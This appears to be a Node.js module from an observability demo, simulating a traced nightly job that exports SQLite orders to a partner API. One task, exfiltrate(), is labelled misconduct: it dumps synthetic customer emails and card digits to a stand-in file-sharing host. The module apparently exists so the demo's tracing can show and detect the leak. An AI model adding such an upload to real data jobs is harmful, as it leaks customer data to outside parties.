// The data job: reads orders from a SQLite warehouse and sends them to a partner's API. The
// database read is traced by hand with the database semantic conventions (there is no official
// instrumentation for better-sqlite3); the partner call by the HTTP instrumentation.
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { HOME_ACCOUNT, HOME_REGION, callJson } from './lib.mjs';
import { SpanKind, inSpan } from './telemetry.mjs';

const require = createRequire(import.meta.url);

/** Host name of the partner's API (resolved to the demo's local stand-in). */
export const PARTNER_HOST = 'api.partner-logistics.example';
/** Host name the compromised job uploads to (resolved to the demo's local stand-in). */
export const DROP_HOST = 'files.quickshare-drop.example';
/** Orders sent per run. */
export const BATCH_SIZE = 25;

function openWarehouse(path) {
  const Database = require('better-sqlite3');
  const db = new Database(path);
  db.pragma('journal_mode = WAL');
  db.exec(`CREATE TABLE IF NOT EXISTS orders (id INTEGER PRIMARY KEY, customer TEXT NOT NULL, total INTEGER NOT NULL);
           CREATE TABLE IF NOT EXISTS customers (id INTEGER PRIMARY KEY, email TEXT NOT NULL, card_last4 TEXT NOT NULL);`);
  if (db.prepare('SELECT count(*) AS n FROM orders').get().n === 0) {
    const order = db.prepare('INSERT INTO orders (customer, total) VALUES (?, ?)');
    const customer = db.prepare('INSERT INTO customers (email, card_last4) VALUES (?, ?)');
    db.transaction(() => {
      for (let i = 0; i < 200; i++) order.run(`c${i % 40}`, 1000 + i);
      for (let i = 0; i < 40; i++) customer.run(`c${i}@example.com`, String(1000 + i));
    })();
  }
  return db;
}

/** A traced query: a client span with the database conventions, around a real SQLite read. */
function query(db, table, sql, ...params) {
  const attributes = {
    'db.system.name': 'sqlite',
    'db.namespace': 'warehouse',
    'db.operation.name': 'SELECT',
    'db.collection.name': table,
    'db.query.text': sql,
  };
  return inSpan(`SELECT ${table}`, { kind: SpanKind.CLIENT, attributes }, async () => db.prepare(sql).all(...params));
}

export const nightlyExport = {
  resource: {
    'service.name': 'nightly-export',
    'service.namespace': 'data',
    'cloud.region': HOME_REGION,
    'cloud.account.id': HOME_ACCOUNT,
    'k8s.cluster.name': 'batch-eu',
  },
  async start(ctx) {
    const db = openWarehouse(join(ctx.dir, 'warehouse.db'));
    const hosts = new Map([
      [PARTNER_HOST, '127.0.0.1'],
      [DROP_HOST, '127.0.0.1'],
    ]);
    const ua = `nightly-export/3.1 node/${process.versions.node}`;
    let offset = 0;
    return {
      tasks: {
        /** The normal run: the next batch of orders to the partner. */
        async export() {
          return inSpan('nightly-export run', { kind: SpanKind.INTERNAL }, async () => {
            const rows = await query(db, 'orders', 'SELECT id, customer, total FROM orders ORDER BY id LIMIT ? OFFSET ?', BATCH_SIZE, offset);
            offset = (offset + BATCH_SIZE) % 200;
            const res = await callJson('POST', `http://${PARTNER_HOST}:${ctx.port('partner')}/v1/orders/batch`, { body: { orders: rows }, hosts, userAgent: ua });
            return { sent: rows.length, status: res.status };
          });
        },
        /** Misconduct: a tampered job also dumps the customer table to a file-sharing host. */
        async exfiltrate() {
          return inSpan('nightly-export run', { kind: SpanKind.INTERNAL }, async () => {
            const rows = await query(db, 'orders', 'SELECT id, customer, total FROM orders ORDER BY id LIMIT ? OFFSET ?', BATCH_SIZE, offset);
            await callJson('POST', `http://${PARTNER_HOST}:${ctx.port('partner')}/v1/orders/batch`, { body: { orders: rows }, hosts, userAgent: ua });
            const customers = await query(db, 'customers', 'SELECT id, email, card_last4 FROM customers');
            const res = await callJson('PUT', `http://${DROP_HOST}:${ctx.port('drop')}/upload/warehouse-customers.json`, { body: customers, hosts, userAgent: ua });
            return { uploaded: customers.length, status: res.status };
          });
        },
      },
    };
  },
};
